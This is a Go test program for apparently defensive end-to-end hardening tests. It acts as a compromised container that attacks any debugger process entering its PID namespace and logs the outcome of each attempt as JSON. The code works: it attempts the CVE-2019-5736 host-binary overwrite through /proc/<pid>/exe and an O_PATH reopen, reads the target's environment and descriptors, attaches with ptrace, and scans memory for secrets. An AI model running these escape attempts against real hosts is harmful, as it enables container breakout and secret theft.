// Command hostile is the "compromised container" of the hardening e2e tests: run as the
// container's PID 1 (root), it attacks every foreign process that appears in its PID
// namespace (a debugging session) and logs, one JSON object per line on stdout, what each
// attack got. It mimics the known escapes through a debugger: CVE-2019-5736 (writing the
// host binary through /proc/<pid>/exe, directly and by reopening an O_PATH descriptor),
// reading the debugger's environment, descriptors and memory, and ptrace.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Report is one attack's outcome.
type Report struct {
	PID    int      `json:"pid"`
	Comm   string   `json:"comm"`
	Attack string   `json:"attack"`
	OK     bool     `json:"ok"`
	Err    string   `json:"err,omitempty"`
	Data   []string `json:"data,omitempty"`
}

var out = json.NewEncoder(os.Stdout)

func main() {
	runtime.LockOSThread() // ptrace requests must come from the attaching thread
	seen := map[int]int{}
	self := os.Getpid()
	for {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || pid == 1 {
				continue
			}
			// Attack each newcomer at once, then again while it lives (during the session).
			if n := seen[pid]; n < 5 {
				seen[pid] = n + 1
				attack(pid)
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func report(pid int, comm, attack string, err error, data ...string) {
	r := Report{PID: pid, Comm: comm, Attack: attack, OK: err == nil, Data: data}
	if err != nil {
		r.Err = err.Error()
	}
	out.Encode(r)
}

func attack(pid int) {
	p := fmt.Sprintf("/proc/%d", pid)
	commB, _ := os.ReadFile(p + "/comm")
	comm := strings.TrimSpace(string(commB))

	// CVE-2019-5736: open the binary behind /proc/<pid>/exe for writing and overwrite it.
	if f, err := os.OpenFile(p+"/exe", os.O_WRONLY, 0); err == nil {
		_, werr := f.WriteAt([]byte("PWNED"), 0)
		f.Close()
		report(pid, comm, "exe-write", werr)
	} else {
		report(pid, comm, "exe-write", err)
	}
	// The same through an O_PATH descriptor reopened by /proc/self/fd.
	if fd, err := syscall.Open(p+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
		f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
		syscall.Close(fd)
		if err == nil {
			_, werr := f.WriteAt([]byte("PWNED"), 0)
			f.Close()
			report(pid, comm, "exe-opath-reopen", werr)
		} else {
			report(pid, comm, "exe-opath-reopen", err)
		}
	} else {
		report(pid, comm, "exe-opath-reopen", err)
	}
	// The debugger's environment.
	if b, err := os.ReadFile(p + "/environ"); err == nil {
		report(pid, comm, "environ", nil, strings.Split(strings.TrimRight(string(b), "\x00"), "\x00")...)
	} else {
		report(pid, comm, "environ", err)
	}
	// Its descriptors, and where they lead.
	if ents, err := os.ReadDir(p + "/fd"); err == nil {
		var links []string
		for _, e := range ents {
			l, lerr := os.Readlink(p + "/fd/" + e.Name())
			if lerr != nil {
				l = "?" + lerr.Error()
			}
			links = append(links, e.Name()+"="+l)
		}
		report(pid, comm, "fds", nil, links...)
	} else {
		report(pid, comm, "fds", err)
	}
	// Its capabilities, readable by anyone.
	if b, err := os.ReadFile(p + "/status"); err == nil {
		var caps []string
		for _, l := range strings.Split(string(b), "\n") {
			if strings.HasPrefix(l, "Cap") {
				caps = append(caps, strings.Join(strings.Fields(l), " "))
			}
		}
		report(pid, comm, "status", nil, caps...)
	}
	// ptrace: attach, peek, detach.
	if err := syscall.PtraceAttach(pid); err != nil {
		report(pid, comm, "ptrace", err)
	} else {
		var ws syscall.WaitStatus
		syscall.Wait4(pid, &ws, syscall.WALL, nil)
		syscall.PtraceDetach(pid)
		report(pid, comm, "ptrace", nil)
	}
	// Its memory, last: the slowest attack (on a loaded machine it may take longer than the
	// session lives), so that the others meet every session first. Every readable mapping,
	// searched for what the caller of the debugger had in its environment (the test sets
	// DDEBUG_TEST_HOST_SECRET=hunter2-...).
	if found, err := scanMemory(p); err == nil {
		report(pid, comm, "mem", nil, found...)
	} else {
		report(pid, comm, "mem", err)
	}
}

// scanMemory reads the readable mappings of a process through /proc/<pid>/mem (which takes
// ptrace access) and returns the secret markers found in them.
func scanMemory(p string) ([]string, error) {
	mem, err := os.Open(p + "/mem")
	if err != nil {
		return nil, err
	}
	defer mem.Close()
	maps, err := os.ReadFile(p + "/maps")
	if err != nil {
		return nil, err
	}
	var found []string
	budget := int64(256 << 20)
	read := 0
	for _, l := range strings.Split(string(maps), "\n") {
		f := strings.Fields(l)
		if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
			continue
		}
		var lo, hi uint64
		if _, err := fmt.Sscanf(f[0], "%x-%x", &lo, &hi); err != nil || hi <= lo {
			continue
		}
		size := int64(hi - lo)
		if size > budget {
			size = budget
		}
		budget -= size
		buf := make([]byte, size)
		n, _ := mem.ReadAt(buf, int64(lo))
		read += n
		for _, marker := range []string{"DDEBUG_TEST_HOST_SECRET", "hunter2"} {
			if strings.Contains(string(buf[:n]), marker) {
				found = append(found, marker+" in "+l)
			}
		}
		if budget <= 0 {
			break
		}
	}
	if read == 0 {
		return nil, fmt.Errorf("no readable memory")
	}
	return found, nil
}
